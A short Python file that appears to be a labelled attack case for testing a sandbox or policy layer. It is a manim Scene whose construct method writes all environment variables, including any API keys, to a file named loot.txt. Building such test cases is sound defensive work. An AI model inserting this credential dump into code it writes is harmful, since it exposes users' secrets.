# family: environment
# layer: policy
# attack: dump os.environ (API keys)
import os
from manim import *


class Attack(Scene):
    def construct(self):
        open("loot.txt", "w").write(str(dict(os.environ)))
        self.wait(0.1)
